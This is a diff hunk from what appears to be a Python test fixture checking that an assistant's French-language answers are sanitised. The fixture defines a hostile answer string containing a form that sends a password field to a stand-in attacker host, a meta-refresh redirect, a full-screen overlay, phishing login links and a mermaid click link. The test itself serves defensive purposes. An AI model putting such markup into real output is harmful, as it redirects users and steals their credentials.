@@ -32,7 +32,7 @@ HOSTILE_ANSWER = (
     f'<form action="https://{EVIL}/steal"><input name=motdepasse></form> '
     f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/"> '
     f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cliquez</div>'
-    f" Connectez-vous sur https://{EVIL}/login ou www.phishing.example.\n\n```mermaid\ngraph TD; A-->B; click A \"https://{EVIL}/\"\n```"
+    f' Connectez-vous sur https://{EVIL}/login ou www.phishing.example.\n\n```mermaid\ngraph TD; A-->B; click A "https://{EVIL}/"\n```'
 )
 HOSTILE_QUESTION = "Quand le partenariat hospitalier entre Dakar et Bordeaux a-t-il été signé ?"
 
